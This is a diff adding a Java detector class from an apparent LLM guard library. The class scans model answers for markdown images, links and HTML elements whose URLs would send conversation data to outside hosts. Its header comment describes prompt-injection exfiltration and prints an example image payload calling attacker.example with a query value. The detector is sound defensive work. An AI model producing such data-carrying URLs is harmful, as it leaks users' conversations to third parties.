@@ -1,0 +1,187 @@
+package dev.llmguard.detect.exfiltration;
+
+import dev.llmguard.GuardConfigurationException;
+import dev.llmguard.detect.exfiltration.UrlScanner.Candidate;
+import dev.llmguard.spi.Category;
+import dev.llmguard.spi.Confidence;
+import dev.llmguard.spi.Detector;
+import dev.llmguard.spi.DetectorConfig;
+import dev.llmguard.spi.Finding;
+import dev.llmguard.spi.Phase;
+import dev.llmguard.spi.ScanInput;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Locale;
+import java.util.Set;
+
+/**
+ * Notices answers that would send data to a third party when they are rendered, the classic way to
+ * exfiltrate a conversation after a prompt injection: {@code
+ * ![](https://attacker.example/log?q=…)}.
+ *
+ * <p>It reads markdown images and links (inline and reference-style), HTML elements that load a
+ * source ({@code img}, {@code iframe}, {@code script} …) or link ({@code a}, {@code form}),
+ * autolinks and bare URLs, and reports a URL when it
+ *
+ * <ul>
+ *   <li>carries data (long, percent- or form-encoded, base64- or hex-looking query values or path
+ *       segments) to a host outside {@code allowed-hosts};
+ *   <li>is a {@code javascript:}/{@code vbscript:} URL (also when hidden behind character
+ *       references) or a {@code data:} URL;
+ *   <li>contains credentials ({@code user:pass@host}) or a user part;
+ *   <li>points to an IP literal (dotted, integer, hex or IPv6) or a punycode ({@code xn--}) host
+ *       outside {@code allowed-hosts}.
+ * </ul>
+ *
+ * Images and other elements that the renderer fetches by itself score highest (up to 0.95 for data
+ * sent to an unknown host); links, which need a click, score lower. The weights of all reasons of
+ * one URL are combined by noisy-or. Each finding's span covers the URL.
+ *
+ * <p><b>Configuration</b> ({@code llmguard.detector.exfiltration.*}):
+ *
+ * <ul>
+ *   <li>{@code allowed-hosts} — comma-separated host names that may receive data; each also allows
+ *       its subdomains ({@code example.com} allows {@code cdn.example.com}); default none;
+ *   <li>{@code long-value} — a query value at least this long counts as data, default {@value
+ *       #DEFAULT_LONG_VALUE};
+ *   <li>{@code max-findings} — report at most this many URLs per text, default {@value
+ *       #DEFAULT_MAX_FINDINGS}.
+ * </ul>
+ *
+ * <p>Thread-safe and stateless after creation; runs in the {@link Phase#RESPONSE} phase. The scan
+ * is linear in the length of the text and allocates nothing for text without brackets, {@code <} or
+ * {@code ://}.
+ */
+public final class ExfiltrationDetector implements Detector {
+
+  /** The detector id and configuration name. */
+  public static final String ID = "exfiltration";
+
+  public static final int DEFAULT_LONG_VALUE = 24;
+  public static final int DEFAULT_MAX_FINDINGS = 50;
+
+  private final UrlAnalysis analysis;
+  private final int maxFindings;
+
+  private ExfiltrationDetector(List<String> allowedHosts, int longValue, int maxFindings) {
+    this.analysis = new UrlAnalysis(allowedHosts, longValue);
+    this.maxFindings = maxFindings;
+  }
+
+  /**
+   * Creates the detector from its configuration.
+   *
+   * @throws GuardConfigurationException when a key holds a malformed or out-of-range value
+   */
+  public static ExfiltrationDetector create(DetectorConfig config) {
+    List<String> hosts = new ArrayList<>();
+    for (String h : config.getList("allowed-hosts")) {
+      String host = h.toLowerCase(Locale.ROOT);
+      if (host.startsWith("*.")) {
+        host = host.substring(2);
+      } else if (host.startsWith(".")) {
+        host = host.substring(1);
+      }
+      if (host.isEmpty() || host.contains("/") || host.contains(" ")) {
+        throw new GuardConfigurationException(
+            config.fullKey("allowed-hosts")
+                + " must list host names such as example.com but contained '"
+                + h
+                + "'");
+      }
+      hosts.add(host);
+    }
+    int longValue = config.getInt("long-value", DEFAULT_LONG_VALUE);
+    if (longValue < 8) {
+      throw new GuardConfigurationException(
+          config.fullKey("long-value") + " must be at least 8 but was " + longValue);
+    }
+    int maxFindings = config.getInt("max-findings", DEFAULT_MAX_FINDINGS);
+    if (maxFindings < 1) {
+      throw new GuardConfigurationException(
+          config.fullKey("max-findings") + " must be at least 1 but was " + maxFindings);
+    }
+    return new ExfiltrationDetector(hosts, longValue, maxFindings);
+  }
+
+  @Override
+  public String id() {
+    return ID;
+  }
+
+  @Override
+  public Set<Phase> phases() {
+    return Set.of(Phase.RESPONSE);
+  }
+
+  @Override
+  public List<Finding> detect(ScanInput input) {
+    String text = input.text();
+    List<Candidate> urls = UrlScanner.scan(text);
+    if (urls.isEmpty()) {
+      return List.of();
+    }
+    List<Finding> findings = null;
+    for (Candidate url : urls) {
+      UrlAnalysis.Result r = analysis.analyse(text, url.start(), url.end(), url.kind());
+      if (r.signals() == 0) {
+        continue;
+      }
+      Finding f = toFinding(text, url, r);
+      if (f == null) {
+        continue;
+      }
+      if (findings == null) {
+        findings = new ArrayList<>();
+      }
+      findings.add(f);
+      if (findings.size() >= maxFindings) {
+        break;
+      }
+    }
+    return findings == null ? List.of() : List.copyOf(findings);
+  }
+
+  private static Finding toFinding(String text, Candidate url, UrlAnalysis.Result r) {
+    double none = 1.0;
+    Signal strongest = null;
+    StringBuilder ids = new StringBuilder();
+    for (Signal s : Signal.values()) {
+      if (!r.has(s)) {
+        continue;
+      }
+      double w = s.weight(url.kind());
+      if (w <= 0.0) {
+        continue;
+      }
+      none *= 1.0 - w;
+      if (strongest == null || w > strongest.weight(url.kind())) {
+        strongest = s;
+      }
+      ids.append(ids.length() == 0 ? "" : ",").append(s.id());
+    }
+    if (strongest == null) {
+      return null;
+    }
+    double score = Math.min(1.0, Math.round((1.0 - none) * 1000) / 1000.0);
+    String host = r.hostStart() >= 0 ? text.substring(r.hostStart(), r.hostEnd()) : null;
+    String message =
+        url.kind().label()
+            + " "
+            + strongest.description()
+            + (host == null ? "" : " to " + host.toLowerCase(Locale.ROOT));
+    Finding.Builder b =
+        Finding.builder(ID, Category.IMPROPER_OUTPUT)
+            .score(score)
+            .confidence(
+                score >= 0.85 ? Confidence.HIGH : score >= 0.6 ? Confidence.MEDIUM : Confidence.LOW)
+            .span(url.start(), url.end())
+            .message(message)
+            .metadata("kind", url.kind().id())
+            .metadata("signals", ids.toString());
+    if (host != null) {
+      b.metadata("host", host.toLowerCase(Locale.ROOT));
+    }
+    return b.build();
+  }
+}
